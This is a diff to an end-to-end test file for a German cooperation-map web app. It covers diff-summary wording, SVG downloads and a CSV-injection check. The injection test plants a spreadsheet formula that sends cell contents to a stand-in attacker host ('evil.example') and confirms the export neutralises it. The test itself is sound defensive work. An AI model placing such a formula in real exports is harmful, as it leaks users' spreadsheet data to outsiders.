@@ -55,6 +55,7 @@ describe('diff mode, the table, downloads and citation', () => {
     ['2019-01-01', '2023-01-01'],
     ['2009-06-01', '2012-12-31'],
     ['2016-03-15', '2016-03-15'],
+    ['2024-06-30', '2025-06-30'],
   ];
 
   it.each(pairs)(
@@ -76,9 +77,15 @@ describe('diff mode, the table, downloads and citation', () => {
 
       // The sentence above the map: its numbers are those of the lists.
       const sentence = (await page.getByTestId('diff-summary').textContent())!;
-      const n = (k: number) => (k === 0 ? 'keine' : String(k).replace(/\B(?=(\d{3})+$)/g, '.'));
-      expect(sentence).toContain(`${n(expected.added.length)} neue`);
-      expect(sentence).toContain(`und ${n(expected.ended.length)} beendete`);
+      const n = (k: number) => String(k).replace(/\B(?=(\d{3})+$)/g, '.');
+      const { added, ended } = { added: expected.added.length, ended: expected.ended.length };
+      if (added === 0 && ended === 0) expect(sentence).toContain(': keine Veränderung.');
+      else {
+        expect(sentence).toContain(added === 0 ? 'keine neuen' : `${n(added)} neue`);
+        expect(sentence).toContain(
+          ended === 0 ? 'und keine beendeten' : `und ${n(ended)} beendete`,
+        );
+      }
       const gains = gainsOn(from, to);
       const top = Math.max(0, ...gains.values());
       if (top > 0) expect(sentence).toMatch(new RegExp(`\\((je )?\\+${top}\\)\\.$`));
@@ -99,7 +106,7 @@ describe('diff mode, the table, downloads and citation', () => {
       expect(svg.suggestedFilename()).toBe(`kooperationsatlas-diff-${from}_${to}.svg`);
       const text = readFileSync((await svg.path())!, 'utf8');
       expect(text).toContain(`Datenstand ${release}`);
-      expect(text).toContain(`${n(expected.added.length)} neue`);
+      expect(text).toContain(sentence.slice(0, 40));
       expect(errors).toEqual([]);
       await context.close();
     },
@@ -217,8 +224,23 @@ describe('diff mode, the table, downloads and citation', () => {
     const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Klick")';
     await context.route('**/cooperations-*.json', async (route) => {
       const response = await route.fetch();
-      const json = (await response.json()) as { cooperations: { id: string; title: object }[] };
-      json.cooperations[0]!.title = { de: hostile, en: hostile };
+      const json = (await response.json()) as {
+        cooperations: {
+          id: string;
+          title: object;
+          topics: string[];
+          signed: string;
+          ended?: string;
+        }[];
+      };
+      // In force today and in the filtered table.
+      const first = json.cooperations[0]!;
+      Object.assign(first, {
+        title: { de: hostile, en: hostile },
+        topics: ['it-security'],
+        signed: '2020-01-01',
+      });
+      delete first.ended;
       await route.fulfill({ response, json });
     });
     const page = await context.newPage();
@@ -245,8 +267,8 @@ describe('diff mode, the table, downloads and citation', () => {
     ).toEqual(shown);
     // No cell starts with a formula character: the hostile title is prefixed with a quote.
     for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
-    if (shown.includes(records()[0]!.id))
-      expect(rows.some((r) => r[1] === `'${hostile}`)).toBe(true);
+    expect(shown).toContain(records()[0]!.id);
+    expect(rows.some((r) => r[1] === `'${hostile}`)).toBe(true);
 
     const [json] = await Promise.all([
       page.waitForEvent('download'),
